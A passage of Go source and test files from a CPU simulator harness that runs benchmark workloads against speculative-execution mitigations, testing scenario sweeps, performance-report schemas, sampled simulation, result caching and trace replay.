		t.Errorf("parallel-core sweep diverges from serial:\n-- serial --\n%.4000s\n-- parallel --\n%.4000s",
			serial, got)
	}
}
