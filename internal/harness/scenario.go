package harness

import (
	"fmt"

	"specasan/internal/scenario"
)

// OptionsFromScenario converts a scenario's run section into harness Options:
// the scenario's machine becomes the run config, its run knobs map onto
// Scale/MaxCycles/Workers/NoSkipIdle, and its content hash is stamped into
// every metrics record the run emits. Output fields (Verbose, Log, Metrics,
// Attach) stay zero — they belong to the caller, not the scenario.
func OptionsFromScenario(s *scenario.Scenario) Options {
	cfg := s.Machine
	retries := s.Run.MaxRetries
	if retries == 0 {
		retries = -1 // the scenario knob is explicit: 0 means no retries
	}
	return Options{
		Scale:             s.Run.Scale,
		MaxCycles:         s.Run.MaxCycles,
		Workers:           s.Run.Workers,
		ParallelCores:     s.Run.ParallelCores,
		NoSkipIdle:        !s.Run.SkipIdle,
		FastForwardInsts:  s.Run.FastForwardInsts,
		SampleWindows:     s.Run.SampleWindows,
		SampleWindowInsts: s.Run.SampleWindowInsts,
		WarmupCycles:      s.Run.WarmupCycles,
		TraceRecord:       s.Run.TraceRecord,
		TraceReplay:       s.Run.TraceReplay,
		Config:            &cfg,
		ScenarioHash:      s.Hash(),
		ResultHash:        s.ResultHash(),
		Retry: RetryPolicy{
			BudgetFactor: s.Run.RetryBudgetFactor,
			MaxRetries:   retries,
		},
	}
}

// RunScenarioSweep runs the sweep a scenario describes: its workloads against
// its mitigations under its machine, with opt supplying the output plumbing
// (Log/Metrics/Attach/Verbose). Run-shape fields of opt (Scale, MaxCycles,
// Workers, NoSkipIdle, Config, ScenarioHash) are overwritten from the
// scenario so the sweep cannot silently diverge from the hash it stamps.
func RunScenarioSweep(s *scenario.Scenario, opt Options) (*Sweep, error) {
	specs, err := s.WorkloadSpecs()
	if err != nil {
		return nil, err
	}
	mits, err := s.MitigationList()
	if err != nil {
		return nil, err
	}
	if err := s.Validate(); err != nil {
		return nil, fmt.Errorf("scenario %q: %w", s.Name, err)
	}
	so := OptionsFromScenario(s)
	so.Verbose, so.Log, so.Metrics, so.Attach = opt.Verbose, opt.Log, opt.Metrics, opt.Attach
	so.Store = opt.Store // cache keying (ResultHash) comes from the scenario
	so.Artifacts = opt.Artifacts
	return RunSweep(specs, mits, so)
}
