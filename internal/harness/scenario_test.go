package harness

import (
	"strings"
	"testing"

	"specasan/internal/core"
	"specasan/internal/scenario"
	"specasan/internal/workloads"
)

// A scenario-driven sweep must be byte-identical to the flag-style RunSweep
// call it describes: same workloads, mitigations, machine, and run knobs
// produce the same formatted table, so switching a script to -scenario can
// never silently change results.
func TestScenarioSweepMatchesFlagSweep(t *testing.T) {
	s := scenario.Default()
	s.Name = "equiv"
	s.Workloads = []string{"511.povray_r"}
	s.Mitigations = []string{"Unsafe", "SpecBarrier"}
	s.Run.Scale = 0.02

	flagOpt := DefaultOptions()
	flagOpt.Scale = 0.02
	flagOpt.Config = &s.Machine
	flagOpt.ScenarioHash = s.Hash()
	flagOpt.NoSkipIdle = !s.Run.SkipIdle
	flagSw, err := RunSweep(
		[]*workloads.Spec{workloads.ByName("511.povray_r")},
		[]core.Mitigation{core.Unsafe, core.Fence},
		flagOpt,
	)
	if err != nil {
		t.Fatal(err)
	}

	scenSw, err := RunScenarioSweep(s, Options{})
	if err != nil {
		t.Fatal(err)
	}
	a := flagSw.FormatNormalized("t")
	b := scenSw.FormatNormalized("t")
	if a != b {
		t.Fatalf("scenario sweep diverged from flag sweep:\n--- flags\n%s--- scenario\n%s", a, b)
	}
}

// The registry-only DoM policy must flow through the sweep like any builtin:
// a scenario naming it yields a DelayOnMiss column with sane normalization.
func TestScenarioSweepRunsRegistryPolicy(t *testing.T) {
	s := scenario.Default()
	s.Name = "dom-column"
	s.Workloads = []string{"505.mcf_r"}
	s.Mitigations = []string{"Unsafe", "DelayOnMiss"}
	s.Run.Scale = 0.02

	sw, err := RunScenarioSweep(s, Options{})
	if err != nil {
		t.Fatal(err)
	}
	out := sw.FormatNormalized("dom")
	if !strings.Contains(out, "DelayOnMiss") {
		t.Fatalf("DelayOnMiss column missing:\n%s", out)
	}
	if n := sw.Normalized("505.mcf_r", scenario.DelayOnMiss); n < 1.0 {
		t.Fatalf("DelayOnMiss normalized %v; delaying misses cannot beat Unsafe", n)
	}
}

// OptionsFromScenario must carry the machine, run knobs, and content hash,
// and leave output plumbing to the caller.
func TestOptionsFromScenario(t *testing.T) {
	s := scenario.Default()
	s.Machine.L1DSizeKB = 128
	s.Run.Scale = 0.25
	s.Run.Workers = 3
	opt := OptionsFromScenario(s)
	if opt.Config == nil || opt.Config.L1DSizeKB != 128 {
		t.Fatalf("machine config not carried: %+v", opt.Config)
	}
	if opt.Scale != 0.25 || opt.Workers != 3 {
		t.Fatalf("run knobs not carried: %+v", opt)
	}
	if opt.ScenarioHash != s.Hash() {
		t.Fatalf("hash %q, want %q", opt.ScenarioHash, s.Hash())
	}
	if opt.Config == &s.Machine {
		t.Fatal("Options.Config aliases the scenario's machine; must be a copy")
	}
}
