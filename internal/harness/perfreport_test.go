package harness

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

// TestPerfReportRoundTrip pins the BENCH_sim.json schema: a report must
// survive marshal → unmarshal → re-marshal byte-identically, so the tracked
// baseline file stays stable under version control.
func TestPerfReportRoundTrip(t *testing.T) {
	rep := &PerfReport{
		Schema:      PerfSchema,
		GeneratedAt: "2026-08-05T00:00:00Z",
		GoMaxProcs:  8,
		SingleCore: SingleCorePerf{
			Workload: "508.namd_r", Mitigation: "Unsafe",
			Steps: 500000, Committed: 700000,
			HostNsPerCycle: 1184.886268, SimInstsPerSec: 1.2e6, SimMIPS: 1.2,
			AllocsPerStep: 0.0001, AllocsPerCommitted: 0.00007,
		},
		Sweep: SweepPerf{
			Workloads: 10, Mitigations: 5, Cells: 50, Scale: 1,
			Workers: 8, WallSeconds: 12.5, SerialWallSeconds: 80.1, Speedup: 6.4,
		},
		Multicore: MulticorePerf{
			Workload: "blackscholes", Cores: 4, GoMaxProcs: 8, Cycles: 1_500_000,
			SerialWallSeconds: 2.4, ParallelWallSeconds: 0.9, Speedup: 2.67,
		},
		Baseline:          ReferenceBaseline(),
		SingleCoreSpeedup: 3.52,
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "BENCH_sim.json")
	if err := rep.WriteJSON(path); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if data[len(data)-1] != '\n' {
		t.Fatal("report must end in a newline")
	}
	var back PerfReport
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(*rep, back) {
		t.Fatalf("report did not survive a JSON round trip:\n%+v\n%+v", rep, back)
	}
	if err := back.WriteJSON(path); err != nil {
		t.Fatal(err)
	}
	data2, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(data, data2) {
		t.Fatal("re-marshal is not byte-identical")
	}
}

// TestLoadPerfHistoryAcceptsOldSchemas pins the v5 upgrade path: a
// pre-existing v2/v3/v4 report's history must load verbatim so the
// cross-PR trajectory — and the hash-keyed regression gate comparing its
// last two entries — survives the schema bump.
func TestLoadPerfHistoryAcceptsOldSchemas(t *testing.T) {
	for _, schema := range []string{perfSchemaV2, perfSchemaV3, perfSchemaV4} {
		old := &PerfReport{
			Schema:      schema,
			GeneratedAt: "2026-08-01T00:00:00Z",
			History: []PerfHistoryEntry{
				{GeneratedAt: "2026-07-01T00:00:00Z", HostNsPerCycle: 200, SimMIPS: 5, ScenarioHash: "abc123"},
				{GeneratedAt: "2026-08-01T00:00:00Z", HostNsPerCycle: 180, SimMIPS: 6, ScenarioHash: "abc123"},
			},
		}
		path := filepath.Join(t.TempDir(), "BENCH_sim.json")
		if err := old.WriteJSON(path); err != nil {
			t.Fatal(err)
		}
		hist, err := LoadPerfHistory(path)
		if err != nil {
			t.Fatalf("%s: %v", schema, err)
		}
		if !reflect.DeepEqual(hist, old.History) {
			t.Fatalf("%s history did not load verbatim:\n%+v\n%+v", schema, hist, old.History)
		}
		// The gate still compares across the bump: a v5 report appending to
		// this history must find the older entry as its reference.
		cur := &PerfReport{Schema: PerfSchema, GeneratedAt: "2026-08-08T00:00:00Z",
			ScenarioHash: "abc123",
			SingleCore:   SingleCorePerf{HostNsPerCycle: 170, SimMIPS: 6.4}}
		if err := cur.AppendHistory(path, "v5 entry"); err != nil {
			t.Fatal(err)
		}
		if n := len(cur.History); n != 3 {
			t.Fatalf("history length = %d, want 3", n)
		}
		notice, regressed := cur.RegressionVsPrevious()
		if regressed {
			t.Fatalf("faster run flagged as regression: %s", notice)
		}
	}
}

// TestBenchSimJSONParses validates the tracked baseline file itself against
// the schema: it must parse as a PerfReport with the current schema tag and
// carry a plausible single-core measurement.
func TestBenchSimJSONParses(t *testing.T) {
	data, err := os.ReadFile(filepath.Join("..", "..", "BENCH_sim.json"))
	if err != nil {
		t.Skipf("no tracked baseline: %v", err)
	}
	var rep PerfReport
	if err := json.Unmarshal(data, &rep); err != nil {
		t.Fatalf("BENCH_sim.json does not parse: %v", err)
	}
	if rep.Schema != PerfSchema {
		t.Fatalf("schema = %q, want %q", rep.Schema, PerfSchema)
	}
	if rep.SingleCore.HostNsPerCycle <= 0 || rep.SingleCore.Committed == 0 {
		t.Fatalf("implausible single-core measurement: %+v", rep.SingleCore)
	}
	if rep.Baseline.HostNsPerCycle <= 0 {
		t.Fatalf("missing baseline: %+v", rep.Baseline)
	}
}
