package harness

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"specasan/internal/core"
	"specasan/internal/workloads"
)

// sampleTolerancePct is the stated accuracy contract of sampled simulation
// at tier-1 scale: the extrapolated IPC stays within this percentage of the
// full-walk IPC. Committed counts and program output carry no tolerance at
// all — they are exact by construction.
const sampleTolerancePct = 25.0

func ipcOf(r *PerfResult) float64 { return float64(r.Committed) / float64(r.Cycles) }

func requireIPCWithin(t *testing.T, full, sampled *PerfResult) {
	t.Helper()
	fi, si := ipcOf(full), ipcOf(sampled)
	delta := (si - fi) / fi * 100
	if delta < 0 {
		delta = -delta
	}
	if delta > sampleTolerancePct {
		t.Fatalf("sampled IPC %.3f vs full %.3f: %.1f%% off (tolerance %.0f%%)",
			si, fi, delta, sampleTolerancePct)
	}
	t.Logf("IPC full=%.3f sampled=%.3f (%.1f%% delta)", fi, si, delta)
}

// TestSampledTailMatchesFull: fast-forward half the run functionally, finish
// detailed. Committed and output must be exact; IPC within the tolerance.
func TestSampledTailMatchesFull(t *testing.T) {
	spec := workloads.ByName("508.namd_r")
	for _, mit := range []core.Mitigation{core.Unsafe, core.SpecASan} {
		opt := smallOpts()
		opt.Scale = 0.2
		full, err := RunBenchmark(spec, mit, opt)
		if err != nil {
			t.Fatal(err)
		}
		opt.FastForwardInsts = full.Committed / 2
		sampled, err := RunBenchmark(spec, mit, opt)
		if err != nil {
			t.Fatal(err)
		}
		if sampled.Sampled == nil || sampled.Sampled.Windows != 1 {
			t.Fatalf("%v: expected a tail-mode sampled result, got %+v", mit, sampled.Sampled)
		}
		if sampled.Committed != full.Committed {
			t.Fatalf("%v: committed %d != full %d (must be exact)", mit, sampled.Committed, full.Committed)
		}
		if sampled.Output != full.Output {
			t.Fatalf("%v: output %q != full %q (must be exact)", mit, sampled.Output, full.Output)
		}
		requireIPCWithin(t, full, sampled)
		if mit == core.SpecASan && full.Restricted > 0 && sampled.Restricted == 0 {
			t.Fatalf("%v: sampled run lost the restricted estimate", mit)
		}
	}
}

// TestSampledWindowsMatchFull: windowed mode's committed total and output
// come from a full functional walk, so they are exact; cycles extrapolate
// from the pooled window IPC.
func TestSampledWindowsMatchFull(t *testing.T) {
	spec := workloads.ByName("505.mcf_r")
	for _, mit := range []core.Mitigation{core.Unsafe, core.SpecASan} {
		opt := smallOpts()
		opt.Scale = 0.2
		full, err := RunBenchmark(spec, mit, opt)
		if err != nil {
			t.Fatal(err)
		}
		opt.SampleWindows = 4
		opt.SampleWindowInsts = full.Committed / 20
		sampled, err := RunBenchmark(spec, mit, opt)
		if err != nil {
			t.Fatal(err)
		}
		if sampled.Sampled == nil || sampled.Sampled.Windows != 4 {
			t.Fatalf("%v: expected 4 windows, got %+v", mit, sampled.Sampled)
		}
		if sampled.Committed != full.Committed {
			t.Fatalf("%v: committed %d != full %d (must be exact)", mit, sampled.Committed, full.Committed)
		}
		if sampled.Output != full.Output {
			t.Fatalf("%v: output %q != full %q (must be exact)", mit, sampled.Output, full.Output)
		}
		requireIPCWithin(t, full, sampled)
	}
}

// TestSampledTooShortFallsBack: a fast-forward budget past the program's end
// must produce exactly the full run, with no sampling annotation.
func TestSampledTooShortFallsBack(t *testing.T) {
	spec := workloads.ByName("508.namd_r")
	opt := smallOpts()
	full, err := RunBenchmark(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}
	opt.FastForwardInsts = 1 << 40
	r, err := RunBenchmark(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}
	if r.Sampled != nil {
		t.Fatalf("short run must fall back to fully detailed, got %+v", r.Sampled)
	}
	if r.Cycles != full.Cycles || r.Committed != full.Committed || r.Output != full.Output {
		t.Fatalf("fallback differs from full run: %+v vs %+v", r, full)
	}
}

// TestSampledMultiThreadFallsBack: the transplant seam is single-core; a
// multi-threaded cell must run fully detailed and bit-identically.
func TestSampledMultiThreadFallsBack(t *testing.T) {
	spec := workloads.ByName("canneal")
	if spec == nil || spec.Threads <= 1 {
		t.Fatal("need a multi-threaded workload")
	}
	opt := smallOpts()
	full, err := RunBenchmark(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}
	opt.FastForwardInsts = 100
	r, err := RunBenchmark(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}
	if r.Sampled != nil {
		t.Fatal("multi-threaded cell must not sample")
	}
	if r.Cycles != full.Cycles || r.Committed != full.Committed {
		t.Fatalf("fallback differs from full run: %+v vs %+v", r, full)
	}
}

// faultySpec runs ~15k instructions, then jumps to unmapped code. Faults the
// golden interpreter sees during a functional region must surface as cell
// faults, exactly like the detailed path would report them.
var faultySpec = &workloads.Spec{
	Name:    "faulty-loop",
	Threads: 1,
	Source: `
    MOV  X1, #5000
loop:
    SUB  X1, X1, #1
    ADD  X2, X2, #1
    CBNZ X1, loop
    MOV  X7, #0x9000
    BR   X7
    SVC  #0`,
}

func TestSampledFaultDuringFastForward(t *testing.T) {
	opt := smallOpts()
	opt.FastForwardInsts = 1 << 20 // past the fault point
	_, err := RunBenchmark(faultySpec, core.Unsafe, opt)
	if err == nil || !strings.Contains(err.Error(), "faulted") {
		t.Fatalf("want a fault error from the functional region, got %v", err)
	}

	opt.FastForwardInsts = 0
	opt.SampleWindows = 4
	opt.SampleWindowInsts = 1000
	_, err = RunBenchmark(faultySpec, core.Unsafe, opt)
	if err == nil || !strings.Contains(err.Error(), "faulted") {
		t.Fatalf("want a fault error from the functional walk, got %v", err)
	}
}

// TestSampledSweepDeterministicAcrossWorkers: the sampling path inherits the
// sweep's determinism contract — results and log bytes are identical for any
// worker count.
func TestSampledSweepDeterministicAcrossWorkers(t *testing.T) {
	specs := []*workloads.Spec{
		workloads.ByName("508.namd_r"),
		workloads.ByName("505.mcf_r"),
	}
	mits := []core.Mitigation{core.Unsafe, core.SpecASan}
	run := func(workers int) string {
		var log bytes.Buffer
		opt := smallOpts()
		opt.Scale = 0.2
		opt.Verbose = true
		opt.Log = &log
		opt.Workers = workers
		opt.SampleWindows = 3
		opt.SampleWindowInsts = 2000
		sw, err := RunSweep(specs, mits, opt)
		if err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		for _, bench := range sw.Benchmarks {
			for _, mit := range sw.Mitigations {
				r := sw.Results[bench][mit]
				if r == nil {
					fmt.Fprintf(&b, "%s/%v: err=%v\n", bench, mit, sw.Errors[bench][mit])
					continue
				}
				fmt.Fprintf(&b, "%s/%v: cycles=%d committed=%d restricted=%d sampled=%+v\n",
					bench, mit, r.Cycles, r.Committed, r.Restricted, r.Sampled)
			}
		}
		fmt.Fprintf(&b, "--- log ---\n%s", log.String())
		return b.String()
	}
	serial := run(1)
	for _, w := range []int{2, 4} {
		if got := run(w); got != serial {
			t.Fatalf("sampled sweep not deterministic across workers=%d:\n%s\n--- vs serial ---\n%s", w, got, serial)
		}
	}
}

// TestSampledCellRoundTripsThroughStore: a sampled result survives the cell
// cache with its sampling annotation intact.
func TestSampledCellRoundTripsThroughStore(t *testing.T) {
	opt := smallOpts()
	opt.Scale = 0.2
	spec := workloads.ByName("508.namd_r")
	full, err := RunBenchmark(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}
	opt.FastForwardInsts = full.Committed / 2
	r, err := RunBenchmark(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}
	back, err := CellResultOf(r).PerfResult()
	if err != nil {
		t.Fatal(err)
	}
	if back.Sampled == nil || *back.Sampled != *r.Sampled {
		t.Fatalf("sampling annotation lost in the cell round trip: %+v vs %+v", back.Sampled, r.Sampled)
	}
	if back.Cycles != r.Cycles || back.Committed != r.Committed || back.Output != r.Output {
		t.Fatal("cell round trip changed the result")
	}
}
