package harness

import (
	"fmt"
	"sort"

	"specasan/internal/core"
	"specasan/internal/obs"
	"specasan/internal/scenario"
	"specasan/internal/stats"
	"specasan/internal/store"
)

// CellSchema versions the cached cell-result payload. Bump it when
// CellResult changes shape; older entries then read as misses.
const CellSchema = "specasan-cell/v1"

// CellResult is the cacheable outcome of one successful sweep cell: enough
// to reconstruct the PerfResult (and every table derived from it)
// byte-for-byte without re-simulating. Counters marshal as a JSON object
// with sorted keys, so the encoded payload is canonical — two runs of the
// same cell produce identical bytes, which is what the store's byte-identity
// contract serves back.
type CellResult struct {
	Schema     string `json:"schema"`
	Bench      string `json:"bench"`
	Mitigation string `json:"mitigation"`
	Cycles     uint64 `json:"cycles"`
	Committed  uint64 `json:"committed"`
	Restricted uint64 `json:"restricted"`
	Output     string `json:"output,omitempty"`
	// Sampled marks a fast-forward sampled result; nil (omitted) for full
	// detailed runs, so pre-sampling entries stay valid under the same
	// schema. Sampled and full runs never share a key: the sampling knobs
	// are part of the scenario's result-context hash.
	Sampled  *obs.SampledRegions `json:"sampled,omitempty"`
	Counters map[string]uint64   `json:"counters,omitempty"`
	// Note is the harness's deterministic per-cell diagnostic (e.g.
	// "uncached: source override"). Noted cells are by definition never
	// stored, so the field exists for the serve response path, which reuses
	// CellResult as its wire shape; omitempty keeps stored payloads as-is.
	Note string `json:"note,omitempty"`
}

// CellResultOf converts a cold run's PerfResult into its cacheable form.
func CellResultOf(r *PerfResult) *CellResult {
	c := &CellResult{
		Schema:     CellSchema,
		Bench:      r.Benchmark,
		Mitigation: r.Mitigation.String(),
		Cycles:     r.Cycles,
		Committed:  r.Committed,
		Restricted: r.Restricted,
		Output:     r.Output,
		Sampled:    r.Sampled,
		Note:       r.Note,
	}
	if r.Stats != nil {
		c.Counters = make(map[string]uint64, len(r.Stats.Keys()))
		for _, k := range r.Stats.Keys() {
			c.Counters[k] = r.Stats.Get(k)
		}
	}
	return c
}

// PerfResult rehydrates the cached cell. The counter set is rebuilt in
// sorted-key order — every consumer (FormatStats, the sweep formatters)
// either sorts or looks up by key, so cached and cold results render
// identically. Fails if the payload is from another schema generation or
// names a mitigation this process has not registered.
func (c *CellResult) PerfResult() (*PerfResult, error) {
	if c.Schema != CellSchema {
		return nil, fmt.Errorf("cell result schema %q (want %q)", c.Schema, CellSchema)
	}
	mit, err := core.ParseMitigation(c.Mitigation)
	if err != nil {
		return nil, err
	}
	set := stats.NewSet("run")
	keys := make([]string, 0, len(c.Counters))
	for k := range c.Counters {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		set.Set(k, c.Counters[k])
	}
	return &PerfResult{
		Benchmark:  c.Bench,
		Mitigation: mit,
		Cycles:     c.Cycles,
		Committed:  c.Committed,
		Restricted: c.Restricted,
		Output:     c.Output,
		Stats:      set,
		Sampled:    c.Sampled,
		Note:       c.Note,
	}, nil
}

// CellStore is the cache RunCell consults: keyed by the scenario's
// result-context hash plus the cell's coordinates. Implementations must be
// safe for concurrent use (sweep cells run on a worker pool) and must never
// return a result they cannot vouch for — a doubtful entry is a miss.
type CellStore interface {
	// GetCell returns the cached result for the cell, or ok=false.
	GetCell(resultHash, bench, mitigation string) (c *CellResult, ok bool)
	// PutCell records a successful cell result. Failures are the
	// implementation's to absorb (log, count, drop): caching is an
	// optimisation and must never fail the run that produced the result.
	PutCell(resultHash string, c *CellResult)
}

// DiskCellStore adapts the crash-safe on-disk store (internal/store) to the
// CellStore seam. The zero value is not usable; wrap a store.Open result.
type DiskCellStore struct {
	S *store.Store
}

// key derives the on-disk key of a cell.
func (DiskCellStore) key(resultHash, bench, mitigation string) store.Key {
	return store.Key{Space: resultHash, Name: scenario.CellKey(bench, mitigation)}
}

// GetCell fetches and validates a cached cell. Beyond the store's checksum,
// the embedded identity must match the requested cell — an entry filed under
// the wrong key (or a key collision, however unlikely) reads as a miss, not
// as someone else's result.
func (d DiskCellStore) GetCell(resultHash, bench, mitigation string) (*CellResult, bool) {
	var c CellResult
	ok, err := d.S.GetJSON(d.key(resultHash, bench, mitigation), &c)
	if err != nil || !ok {
		return nil, false
	}
	if c.Schema != CellSchema || c.Bench != bench || c.Mitigation != mitigation {
		return nil, false
	}
	return &c, true
}

// PutCell persists a cell result; errors (read-only store, full disk) are
// absorbed — the store's counters record them, and the run proceeds.
func (d DiskCellStore) PutCell(resultHash string, c *CellResult) {
	_ = d.S.PutJSON(d.key(resultHash, c.Bench, c.Mitigation), c)
}
