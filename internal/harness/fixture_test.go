package harness

import (
	"bytes"
	"flag"
	"reflect"
	"testing"

	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/store"
	"specasan/internal/trace"
	"specasan/internal/workloads"
)

var updateTraceFixture = flag.Bool("update-trace", false,
	"re-record the golden trace fixture in testdata/ (run after a deliberate generator or format change)")

// The fixture recipe: a tagged single-core registry cell small enough to
// check in but real enough to exercise the MTE tag section, the touch
// stream, and the SpecASan replay path.
const (
	fixturePath     = "testdata/golden-505.mcf_r.satrace"
	fixtureWorkload = "505.mcf_r"
	fixtureScale    = 0.02
)

var fixtureMit = core.SpecASan

// TestGoldenTraceFixtureReplay is the cross-PR compatibility gate: the
// checked-in trace must still decode (format compatibility), still carry
// the identity the harness would look up (cache-key compatibility), and a
// cell replayed from it must match today's live-decode run bit for bit —
// same PerfResult and a byte-identical metrics JSONL stream. If the
// workload generator changes deliberately, re-record with
// `go test ./internal/harness -run TestGoldenTraceFixture -update-trace`.
func TestGoldenTraceFixtureReplay(t *testing.T) {
	spec := workloads.ByName(fixtureWorkload)
	if spec == nil {
		t.Fatalf("workload %s missing", fixtureWorkload)
	}
	tagged := fixtureMit.MTEEnabled()
	if *updateTraceFixture {
		tr, err := spec.RecordTrace(tagged, fixtureScale, trace.RecordConfig{
			MTEOn:   tagged,
			TagSeed: cpu.TagSeedBase,
		})
		if err != nil {
			t.Fatal(err)
		}
		if err := tr.WriteFile(fixturePath); err != nil {
			t.Fatal(err)
		}
		t.Logf("rewrote %s (%d insts)", fixturePath, tr.Meta.Insts)
	}

	tr, err := trace.ReadFile(fixturePath) // full checksum + framing verify
	if err != nil {
		t.Fatalf("fixture no longer decodes (format drift?): %v", err)
	}
	id := spec.TraceIdentity(tagged, fixtureScale)
	if !tr.Meta.Identity.Same(id) {
		t.Fatalf("fixture identity %+v no longer matches the harness lookup %+v; re-record with -update-trace",
			tr.Meta.Identity, id)
	}

	st, err := store.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if err := trace.Save(st, tr); err != nil {
		t.Fatal(err)
	}

	opt := DefaultOptions()
	opt.Scale = fixtureScale
	var liveMetrics, replayMetrics bytes.Buffer

	opt.Metrics = &liveMetrics
	live, err := RunBenchmark(spec, fixtureMit, opt)
	if err != nil {
		t.Fatal(err)
	}

	opt.Metrics = &replayMetrics
	opt.Artifacts, opt.TraceReplay = st, true
	replayed, err := RunBenchmark(spec, fixtureMit, opt)
	if err != nil {
		t.Fatal(err)
	}

	if !reflect.DeepEqual(live, replayed) {
		t.Errorf("fixture replay diverges from live decode:\nlive:   %+v\nreplay: %+v", live, replayed)
	}
	if !bytes.Equal(liveMetrics.Bytes(), replayMetrics.Bytes()) {
		t.Errorf("metrics JSONL streams differ (live %d bytes, replay %d bytes)",
			liveMetrics.Len(), replayMetrics.Len())
	}
}
