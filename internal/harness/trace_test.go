package harness

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"specasan/internal/core"
	"specasan/internal/store"
	"specasan/internal/trace"
	"specasan/internal/workloads"
)

func traceOpts(t *testing.T) (Options, string) {
	t.Helper()
	root := t.TempDir()
	st, err := store.Open(root)
	if err != nil {
		t.Fatal(err)
	}
	opt := smallOpts()
	opt.Artifacts = st
	return opt, root
}

// TestTraceReplayMatchesLiveCell is the cell-level contract: a replayed cell
// must produce the same PerfResult as the live-decoded one, field for field.
func TestTraceReplayMatchesLiveCell(t *testing.T) {
	spec := workloads.ByName("505.mcf_r")
	live, err := RunBenchmark(spec, core.SpecASan, smallOpts())
	if err != nil {
		t.Fatal(err)
	}

	opt, _ := traceOpts(t)
	opt.TraceRecord, opt.TraceReplay = true, true
	replayed, err := RunBenchmark(spec, core.SpecASan, opt)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(live, replayed) {
		t.Fatalf("replayed cell diverges from live decode:\nlive:   %+v\nreplay: %+v", live, replayed)
	}

	// Second replay run answers from the stored trace without re-recording
	// (TraceReplay alone errors on a miss, so success proves the hit).
	opt.TraceRecord = false
	again, err := RunBenchmark(spec, core.SpecASan, opt)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(live, again) {
		t.Fatal("stored-trace replay diverges from live decode")
	}
}

func TestTraceReplayErrorsOnMiss(t *testing.T) {
	opt, _ := traceOpts(t)
	opt.TraceReplay = true
	_, err := RunBenchmark(workloads.ByName("505.mcf_r"), core.Unsafe, opt)
	if err == nil || !strings.Contains(err.Error(), "no recorded trace") {
		t.Fatalf("replay-only miss: %v", err)
	}
}

func TestTraceKnobsRequireStore(t *testing.T) {
	opt := smallOpts()
	opt.TraceReplay = true
	_, err := RunBenchmark(workloads.ByName("505.mcf_r"), core.Unsafe, opt)
	if err == nil || !strings.Contains(err.Error(), "artifact store") {
		t.Fatalf("storeless trace run: %v", err)
	}
}

// TestTraceSkipsSourceOverride: source-override specs have no registry
// identity to key a trace under, so the knobs must pass them through to the
// live path untouched rather than record a mislabelled trace.
func TestTraceSkipsSourceOverride(t *testing.T) {
	opt, _ := traceOpts(t)
	opt.TraceRecord, opt.TraceReplay = true, true
	spec := &workloads.Spec{
		Name:    "override",
		Threads: 1,
		Source:  "MOV X0, #0\nSVC #0",
	}
	got, err := ResolveTrace(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}
	if got != spec || got.Trace != nil {
		t.Fatal("source override was not passed through")
	}
}

// TestTraceCorruptEntryReRecords: a corrupted stored trace reads as a miss
// (quarantined by the store), and a record-enabled run heals it in place.
func TestTraceCorruptEntryReRecords(t *testing.T) {
	spec := workloads.ByName("505.mcf_r")
	opt, root := traceOpts(t)
	opt.TraceRecord, opt.TraceReplay = true, true
	first, err := RunBenchmark(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}

	id := spec.TraceIdentity(core.Unsafe.MTEEnabled(), opt.Scale)
	key := id.StoreKey()
	path := filepath.Join(root, key.Space, key.Name+".entry")
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	raw[len(raw)-3] ^= 0x10
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}

	healed, err := RunBenchmark(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(first, healed) {
		t.Fatal("re-recorded run diverges from the original")
	}
	// The re-record wrote a fresh, loadable trace back into the slot.
	if _, ok, err := trace.Load(opt.Artifacts, id); !ok || err != nil {
		t.Fatalf("slot not healed: ok=%v err=%v", ok, err)
	}
	// Replay-only still works against the healed entry.
	opt.TraceRecord = false
	if _, err := RunBenchmark(spec, core.Unsafe, opt); err != nil {
		t.Fatal(err)
	}
}
