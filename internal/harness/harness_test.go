package harness

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"specasan/internal/core"
	"specasan/internal/workloads"
)

func smallOpts() Options {
	opt := DefaultOptions()
	opt.Scale = 0.02
	return opt
}

func TestRunBenchmarkProducesStats(t *testing.T) {
	r, err := RunBenchmark(workloads.ByName("508.namd_r"), core.Unsafe, smallOpts())
	if err != nil {
		t.Fatal(err)
	}
	if r.Cycles == 0 || r.Committed == 0 {
		t.Fatalf("empty result: %+v", r)
	}
	if r.Stats.Get("commits") != r.Committed {
		t.Fatal("stats inconsistent")
	}
}

func TestSweepNormalization(t *testing.T) {
	specs := []*workloads.Spec{workloads.ByName("511.povray_r")}
	sw, err := RunSweep(specs, []core.Mitigation{core.Unsafe, core.Fence}, smallOpts())
	if err != nil {
		t.Fatal(err)
	}
	if n := sw.Normalized("511.povray_r", core.Unsafe); n != 1.0 {
		t.Fatalf("baseline normalizes to %v", n)
	}
	if n := sw.Normalized("511.povray_r", core.Fence); n < 1.0 {
		t.Fatalf("fences cannot be faster than baseline: %v", n)
	}
	if g := sw.GeomeanNormalized(core.Fence); g < 1.0 {
		t.Fatalf("geomean %v", g)
	}
	out := sw.FormatNormalized("title")
